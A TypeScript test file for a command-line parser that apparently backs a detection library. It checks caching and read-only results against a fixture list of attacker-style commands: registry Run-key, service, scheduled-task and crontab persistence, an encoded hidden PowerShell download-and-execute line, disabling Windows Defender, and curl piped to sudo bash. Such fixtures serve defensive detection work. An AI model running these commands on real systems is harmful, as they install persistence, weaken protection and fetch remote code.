import { parseDocument } from '../text/document';
import { artefactCommands } from './document-commands';
import { commandFacts, forgetCommandFacts, programRuns, type CommandFacts } from './facts';
import { allInvocations, parseCommandLine, type Invocation, type ParsedCommandLine } from './parse';
import { frozen, RecentResults } from './recent-results';
import { registryOperation } from './registry-operations';
import { scriptBlockCode, scriptBlockCodeOf } from './script-block-code';
import { serviceOperations, type ServiceOperation } from './service-operations';
import { taskOperations } from './task-operations';

// Lines of each kind the model reads: wrappers, a decoded -EncodedCommand, registry, service and task writes, indicators.
const LINES = [
  'cmd /c "reg add \\"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\" /v Updater /t REG_SZ /d C:\\Users\\Public\\u.exe /f"',
  'sc create Updater binPath= "C:\\ProgramData\\svc.exe" start= auto & sc start Updater',
  'schtasks /create /tn "\\Microsoft\\Updater" /tr "powershell -ep bypass -f C:\\ProgramData\\u.ps1" /sc onlogon /ru SYSTEM',
  'powershell -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHgAYQBtAHAAbABlAC4AdABlAHMAdAAvAGEAKQA=',
  'Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend -Name Start -Value 4',
  'curl -fsSL http://198.51.100.7/x.sh | sudo bash -c "chmod +x /tmp/x && /tmp/x" > /tmp/log 2>&1',
  'echo "* * * * * root /tmp/.x/run" >> /etc/crontab; systemctl enable --now evil.service',
];

/** Every object and array a value reaches. */
function reachable(value: unknown): object[] {
  const seen = new Set<object>();
  const pending: unknown[] = [value];
  while (pending.length > 0) {
    const item = pending.pop();
    if (typeof item !== 'object' || item === null || seen.has(item)) continue;
    seen.add(item);
    pending.push(...Object.values(item));
  }
  return [...seen];
}

/** What the model holds for each line, as data: a write through any path would change it. */
function snapshot(): string {
  return JSON.stringify(
    LINES.flatMap((line) => [
      parseCommandLine(line),
      parseCommandLine(line, { platform: 'unix' }),
      commandFacts(line, { platform: 'windows' }),
    ]),
  );
}

describe('RecentResults', () => {
  it('keeps the most recently used entries up to its capacity', () => {
    const recent = new RecentResults<number>(2);
    recent.set('a', 1);
    recent.set('b', 2);
    expect(recent.get('a')).toBe(1); // a is now the most recent: b goes first
    recent.set('c', 3);
    expect([recent.get('a'), recent.get('b'), recent.get('c'), recent.size]).toEqual([1, undefined, 3, 2]);
  });
});

describe('frozen', () => {
  it('freezes every object and array the value reaches, shared ones once', () => {
    const shared = { raw: 'x' };
    const value = frozen({ words: [shared, shared], nested: { list: [[1], { deep: shared }] } });
    expect(reachable(value).every((item) => Object.isFrozen(item))).toBe(true);
  });
});

describe('parseCommandLine and commandFacts: one read-only result per line and options', () => {
  it('hands every caller of the same line and options the same result, and another for other options', () => {
    const line = LINES[0] as string;
    expect(parseCommandLine(line)).toBe(parseCommandLine(line, {}));
    expect(parseCommandLine(line, { offset: 4 })).not.toBe(parseCommandLine(line));
    expect(parseCommandLine(line, { offset: 4 }).invocations[0]?.start).toBe(4);
    expect(parseCommandLine(line, { platform: 'unix' })).not.toBe(parseCommandLine(line, { platform: 'windows' }));
    expect(commandFacts(line, { platform: 'windows' })).toBe(commandFacts(line, { platform: 'windows' }));
    expect(programRuns(line, { windows: true })).toBe(commandFacts(line, { platform: 'windows' }).programs);
  });

  it('hands out a kept reading equal to a fresh one', () => {
    const kept = LINES.flatMap((line) => [parseCommandLine(line, { platform: 'windows' }), commandFacts(line, { platform: 'unix' })]);
    forgetCommandFacts();
    const fresh = LINES.flatMap((line) => [parseCommandLine(line, { platform: 'windows' }), commandFacts(line, { platform: 'unix' })]);
    fresh.forEach((result, i) => {
      expect(result).not.toBe(kept[i]);
      expect(result).toEqual(kept[i]);
    });
  });

  it('freezes what it hands out, so a caller that wrote to it would throw instead of changing the next reading', () => {
    for (const line of LINES) {
      expect(reachable(parseCommandLine(line)).every((item) => Object.isFrozen(item))).toBe(true);
      expect(reachable(commandFacts(line)).every((item) => Object.isFrozen(item))).toBe(true);
    }
    const parsed: ParsedCommandLine = parseCommandLine(LINES[1] as string);
    const facts: CommandFacts = commandFacts(LINES[1] as string);
    const first = parsed.invocations[0] as Invocation;
    expect(() => {
      // @ts-expect-error the model's results are read-only (tsc checks this line)
      parsed.invocations.push(first);
    }).toThrow(TypeError);
    expect(() => {
      // @ts-expect-error read-only
      first.name = 'other';
    }).toThrow(TypeError);
    expect(() => {
      // @ts-expect-error read-only
      (first.program as NonNullable<Invocation['program']>).value = 'other.exe';
    }).toThrow(TypeError);
    const service = facts.services[0] as ServiceOperation;
    expect(service.name).toBe('Updater');
    expect(() => {
      // @ts-expect-error read-only
      service.name = 'other';
    }).toThrow(TypeError);
    // The registry list keeps a mutable type for libs/sigma's registry-writes.ts; at run time it is frozen all the same.
    expect(() => facts.registry.push(...facts.registry)).toThrow(TypeError);
  });

  it('leaves a kept result unchanged after every caller path of this library has read it', () => {
    const before = snapshot();
    for (const line of LINES) {
      const facts = commandFacts(line, { platform: 'windows' });
      for (const invocation of allInvocations(parseCommandLine(line))) {
        registryOperation(invocation);
        serviceOperations(invocation);
        taskOperations(invocation);
      }
      programRuns(line, { windows: true });
      programRuns(parseCommandLine(line), { windows: false });
      scriptBlockCode(line);
      scriptBlockCodeOf(facts);
    }
    artefactCommands(parseDocument(LINES.join('\n\n')));
    expect(snapshot()).toBe(before);
  });
});
